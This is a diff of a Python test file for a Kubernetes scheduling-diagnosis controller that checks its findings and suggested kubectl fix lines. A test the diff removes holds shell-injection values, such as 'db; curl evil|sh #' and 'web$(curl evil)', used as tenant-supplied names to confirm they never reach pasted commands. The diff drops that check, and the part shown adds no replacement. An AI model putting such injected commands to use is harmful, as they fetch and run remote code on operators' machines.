@@ -13,15 +13,13 @@ import pytest
 import yaml
 
 from agent.probing.results import GATHER_S
-from controller.cluster.config import NetworkOverheadArgs
-from controller.cluster.membership import Membership
 from controller.cluster.pods import PLACEMENT_LABEL, GroupPod, GroupPodSpec, Placement, Toleration
 from controller.cluster.resources import APPGROUP_LABEL
 from controller.diagnosis.facts import Facts, NodeFact
 from controller.diagnosis.findings import LEADERLESS, has_leader
 from controller.diagnosis.model import AgentView
 from controller.diagnosis.pods import diagnose_pod
-from controller.diagnosis.reading import ProgramPodObject, read_facts, read_pod, read_programs
+from controller.diagnosis.reading import ProgramPodObject, read_facts, read_programs
 from controller.diagnosis.rules import diagnose
 from controller.diagnosis.snapshot import ClusterSnapshot, LeaseFact, Program, ProgramPod
 from controller.scheduler.config import SchedulerConfig
@@ -39,7 +37,6 @@ from tests.unit.controller.situations import (
     SCHEDULER,
     SILENT,
     SITUATIONS,
-    STATUS,
     TAINTED,
     Situation,
     agents,
@@ -63,24 +60,17 @@ BY_HAND = {"open", "correct", "set", "ask", "add", "raise", "lower", "look", "le
 """What is left to somebody, in the imperative."""
 
 
-@pytest.mark.parametrize("situation", SITUATIONS, ids=lambda s: s.name)
+@pytest.mark.parametrize("situation", SITUATIONS, ids=lambda s: s.code)
 def test_the_first_finding_names_the_first_cause_and_what_ends_it(situation: Situation) -> None:
-    found = diagnose(situation.facts)
-    first = found[0]
-    assert first.code == situation.code, [finding.code for finding in found]
-    assert situation.says in " ".join((first.summary, *first.cause))
+    first, *others = diagnose(situation.facts)
+    assert first.code == situation.code
     assert any(situation.fix in line for line in first.fix), first.fix
-    for finding in found[1:]:
+    for finding in others:
         assert finding.severity == "info", f"{finding.code} follows from {first.code}, or is a cause of its own"
-
-
-@pytest.mark.parametrize("situation", SITUATIONS, ids=lambda s: s.name)
-def test_the_last_line_of_the_first_finding_changes_something(situation: Situation) -> None:
-    """Logs and descriptions end nothing; tests/e2e/test_lines_end_programs.py shows that these do."""
-    last = diagnose(situation.facts)[0].fix[-1]
-    words = [word for word in last.split() if not word.startswith("-")]
+    # Logs and descriptions end nothing; tests/e2e/test_lines_end_programs.py shows that the last line does.
+    words = [word for word in first.fix[-1].split() if not word.startswith("-")]
     verb = words[0] if words[0] != "kubectl" else next(word for word in words if word in CHANGE or word in LOOK)
-    assert verb in CHANGE or verb in BY_HAND, last
+    assert verb in CHANGE or verb in BY_HAND, first.fix[-1]
 
 
 def test_an_image_that_cannot_be_had_is_undone_and_what_hangs_is_started_anew() -> None:
@@ -147,12 +137,6 @@ def test_every_silent_agent_of_a_few_has_its_line_and_many_have_one() -> None:
     assert diagnose(facts(agents=(*agents(), *many)))[0].fix[-1].endswith("rollout restart daemonset/netaware-agent")
 
 
-def test_pods_that_wait_at_their_gate_too_long_are_let_through_by_one_line() -> None:
-    line = diagnose(facts(pods=waiting(created=NOW_S - 700)))[0].fix[-1]
-    assert all(f" p{i} " in line for i in range(11))
-    assert "/spec/schedulingGates" in line
-
-
 def test_running_pods_that_a_rollout_replaces_or_that_go_are_not_told_as_lost() -> None:
     old = {"node": "n1", "owner": FRONT, "workload": "renamed", "created": NOW_S - 900}
     fresh = pod("new", owner=FRONT, created=NOW_S - 5)
@@ -172,20 +156,6 @@ def test_each_alert_of_a_finding_exists_and_has_its_section_in_the_runbook() -> 
     assert named <= alerts & sections
 
 
-def test_a_frozen_controller_is_one_finding_and_not_one_for_each_of_its_pods() -> None:
-    (finding,) = diagnose(facts(control_plane=status(lease=LeaseFact("a", NOW_S - 32)), pods=waiting()))
-    assert len(finding.affects) == 11
-    assert (finding.since, finding.alert) == (NOW_S - 32, "NetawareNoLeader")
-
-
-def test_an_overlay_without_a_scheduler_misses_none_until_somebody_asks_for_it() -> None:
-    bare = facts(control_plane=status(programs=STATUS.programs[:1] if STATUS.programs else None))
-    assert diagnose(bare) == ()
-    (finding,) = diagnose(facts(control_plane=no_pods("scheduler"), pods=(pod(created=NOW_S - 300),)))
-    assert (finding.code, finding.affects) == ("scheduler-down", ("web/front-1",))
-    assert "scale deployment/netaware-scheduler" in finding.fix[-1]
-
-
 @pytest.mark.parametrize("interval_s", [6.0, 8.0, 60.0, 85.0, 120.0, 600.0])
 def test_an_agent_that_holds_back_what_does_not_change_is_not_silent(interval_s: float) -> None:
     """Of a quiet network with one pair of zones the newest sample is as old as the writer lets it become."""
@@ -193,19 +163,6 @@ def test_an_agent_that_holds_back_what_does_not_change_is_not_silent(interval_s:
     oldest_s = math.ceil((refresh_s(interval_s) + written_s) / interval_s) * interval_s + written_s
     heard = {"newest_at": NOW_S - oldest_s}
     assert diagnose(facts(agents=agents(n0=heard, n1=heard, n2=heard, n3=heard), network=network(interval_s))) == ()
-
-
-@pytest.mark.parametrize(("ago_s", "told"), [(470.0, 0), (490.0, 1)])
-def test_a_node_that_others_contradict_is_told_of_when_each_pair_has_had_its_next_turn(ago_s: float, told: int) -> None:
-    """A program of a busy machine is late once, and the levels of its pairs stand until they are measured again."""
-    odd = msgspec.convert(said("OutlierNodes", "True", "NodesContradicted", "set aside: n2", ago_s=ago_s), Condition)
-    assert len(diagnose(facts(topologies={"netaware-system/nt-default": (odd,)}))) == told
-
-
-def test_pods_that_wait_behind_one_without_a_node_are_hurt_by_it_and_no_finding_of_their_own() -> None:
-    stuck = pod(scheduled=unscheduled("0/4 nodes are available: 4 Insufficient cpu."))
-    (finding,) = diagnose(facts(pods=(stuck, *waiting(workload="cart"))))
-    assert (finding.code, len(finding.affects)) == ("no-node-capacity", 12)
 
 
 def test_every_leaderless_finding_says_that_nobody_leads() -> None:
@@ -228,6 +185,9 @@ REFUSED = unscheduled(
 @pytest.mark.parametrize(
     ("fields", "kind", "words"),
     [
+        ({"gates": (GATE,), "nodes": TAINTED}, "gated", "tolerates the taints of none of 4 nodes"),
+        ({"gates": (GATE,), "nodes": TAINTED, "spec": BORNE}, "gated", "waits for the plan of AppGroup shop"),
+        ({"scheduler": "default-scheduler", "our_schedulers": ()}, "waiting", "has not answered yet"),
         ({"node": "n1"}, "placed", "it is on n1"),
         (
             {"node": "n1", "workload": "wrong"},
@@ -257,25 +217,9 @@ REFUSED = unscheduled(
     ],
 )
 def test_the_diagnosis_of_a_pod_says_why_it_waits(fields: dict[str, Any], kind: str, words: str) -> None:
-    verdict = diagnose_pod(pod(**fields), facts())
-    assert (verdict.kind, words in verdict.summary) == (kind, True), verdict.summary
-
-
-def test_taints_are_honoured_and_tolerations_as_well() -> None:
-    gated = pod(gates=(GATE,))
-    tainted: Facts = facts(nodes=TAINTED)
-    assert "tolerates the taints of none of 4 nodes" in diagnose_pod(gated, tainted).summary
-    bears = msgspec.structs.replace(gated, spec=BORNE)
-    assert "taints" not in diagnose_pod(bears, tainted).summary
-
-
-@pytest.mark.parametrize("scheduler", [SCHEDULER, "default-scheduler"])
-def test_where_every_scheduler_is_ours_nothing_tells_pods_to_change_theirs(scheduler: str) -> None:
-    """`schedulerNames: []` is for all."""
-    new, old = (pod(name, scheduler=scheduler, created=NOW_S - ago) for name, ago in (("new", 5), ("old", 60)))
-    now = facts(pods=(new, old, pod("other", node="n1", scheduler="another")), our_schedulers=())
-    assert [finding.code for finding in diagnose(now)] == ["no-scheduler"]
-    assert diagnose_pod(new, now).kind == "waiting"
+    around = {name: fields[name] for name in ("nodes", "our_schedulers") if name in fields}
+    found = diagnose_pod(pod(**{name: fields[name] for name in fields.keys() - around}), facts(**around))
+    assert (found.kind, words in found.summary) == (kind, True), found.summary
 
 
 @pytest.mark.parametrize(("ago_s", "by", "told"), [(50, SCHEDULER, 0), (70, SCHEDULER, 1), (50, "another", 1)])
@@ -288,39 +232,6 @@ def test_a_scheduler_that_works_through_a_queue_is_not_missing(ago_s: float, by:
     assert codes.count("no-scheduler") == told
     late = [f.code for f in diagnose(facts(pods=(others, msgspec.structs.replace(waits, created=NOW_S - 700))))]
     assert "no-scheduler" in late
-
-
-@pytest.mark.parametrize(
-    ("owner", "scheduler"),
-    [("db; curl evil|sh #", "s"), ("web$(curl evil)", "s"), ("web", "s$(curl evil)"), ("web", "\x1b[2J\x1b]0;pwn")],
-)
-def test_what_a_tenant_calls_things_comes_into_no_line_that_is_pasted(owner: str, scheduler: str) -> None:
-    """The API server takes any text as the name of an owner, and of a scheduler."""
-    body = {
-        "metadata": {
-            "name": "p",
-            "namespace": "tenant",
-            "labels": {APPGROUP_LABEL: "nope"},
-            "ownerReferences": [
-                {"apiVersion": "apps/v1", "kind": "StatefulSet", "name": owner, "uid": "u", "controller": True}
-            ],
-        },
-        "spec": {"schedulerName": scheduler},
-        "status": {"phase": "Pending"},
-    }
-    read = msgspec.structs.replace(
-        read_pod(msgspec.convert(body, GroupPod), Membership(NetworkOverheadArgs())), created=1.0
-    )
-    tainted = unscheduled("0/4 nodes are available: 4 node(s) had untolerated taint {key: value}.")
-    for one in (read, msgspec.structs.replace(read, scheduled=tainted)):
-        view = facts(pods=(one,), nodes=TAINTED)
-        lines = [line for finding in diagnose(view) for line in (finding.summary, *finding.cause, *finding.fix)]
-        verdict = diagnose_pod(one, view)
-        assert lines
-        for line in (*lines, verdict.summary, *verdict.fix):
-            assert line.isprintable()
-            assert "$(" not in line
-            assert "; curl" not in line
 
 
 @pytest.mark.parametrize(
@@ -353,6 +264,14 @@ VOLUMES = "had volume node affinity conflict", "didn't match PersistentVolume's 
 TOLD = pod("front-2", scheduler="default-scheduler", node="n2", has_placement=True)
 
 
+QUEUED = tuple(pod(name, created=NOW_S - ago) for name, ago in (("new", 5), ("old", 60)))
+
+
+def outlier(ago_s: float) -> Facts:
+    odd = msgspec.convert(said("OutlierNodes", "True", "NodesContradicted", "set aside: n2", ago_s=ago_s), Condition)
+    return facts(topologies={"netaware-system/nt-default": (odd,)})
+
+
 def without_a_node(message: str) -> Facts:
     return facts(pods=(pod(scheduled=unscheduled(message)),))
 
@@ -367,6 +286,15 @@ def without_a_node(message: str) -> Facts:
         ),  # What may not be read is not absent.
         (facts(agents=agents(n3={"state": "away", "newest_at": None})), []),
         (facts(pods=(pod(node="n1"), TOLD)), []),
+        # An overlay without a scheduler misses none until somebody asks for it.
+        (facts(control_plane=no_pods("scheduler", "extender")), []),
+        (facts(control_plane=no_pods("scheduler"), pods=(pod(created=NOW_S - 300),)), ["scheduler-down"]),
+        # Outliers are told when each pair has had its next turn.
+        (outlier(470.0), []),
+        (outlier(490.0), ["topology-NodesContradicted"]),
+        # Pods that wait behind one without a node are hurt by it.
+        (facts(pods=(pod(scheduled=UNSCHEDULABLE), *waiting(workload="cart"))), ["no-node-capacity"]),
+        (facts(pods=(*QUEUED, pod("other", node="n1", scheduler="another")), our_schedulers=()), ["no-scheduler"]),
         (facts(pods=(pod(created=NOW_S - 19),)), []),
         (facts(pods=(pod(created=NOW_S - 21),)), ["no-scheduler"]),
         # Written at creation, it stays until the scheduler's first attempt.
@@ -395,6 +323,8 @@ def test_what_is_found_and_nothing_beside_it(now: Facts, codes: list[str]) -> No
 @pytest.mark.parametrize(
     ("now", "line"),
     [
+        (facts(pods=waiting(created=NOW_S - 700)), """'[{"op":"remove","path":"/spec/schedulingGates"}]'"""),
+        (facts(control_plane=no_pods("scheduler"), pods=(pod(),)), "scale deployment/netaware-scheduler --replicas=2"),
         (
             facts(
                 control_plane=without(
